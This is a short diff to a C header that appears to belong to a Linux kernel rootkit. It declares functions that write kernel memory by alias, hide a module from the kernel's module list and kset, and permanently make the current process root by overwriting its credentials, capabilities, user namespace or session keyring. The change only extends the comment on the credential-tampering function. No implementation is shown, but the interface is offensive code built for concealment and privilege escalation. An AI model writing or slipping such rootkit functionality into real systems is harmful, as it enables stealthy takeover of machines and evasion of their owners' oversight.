@@ -54,8 +54,9 @@ int write_by_alias(unsigned long address, const u8 *bytes, size_t count);
 struct effect *hide_from_list(void);
 struct effect *hide_from_kset(void);
 
-/* Make the current process root by writing its `users` in place, or its `pointer` to credentials; or put it into the first
- * user `namespace`, or make its session's `keyring` its own. For good. */
+/* Make the current process root by writing its `users` in place, or only the `effective` one, its `groups` or
+ * `capabilities`, its `pointer` to credentials, or only that to the `subjective` ones; or put it into the first user
+ * `namespace`, or make its session's `keyring` its own. For good. */
 int tamper_with(const char *what);
 
 /* Give the current process root's credentials. `init_task`: its address, which newer kernels do not export. */
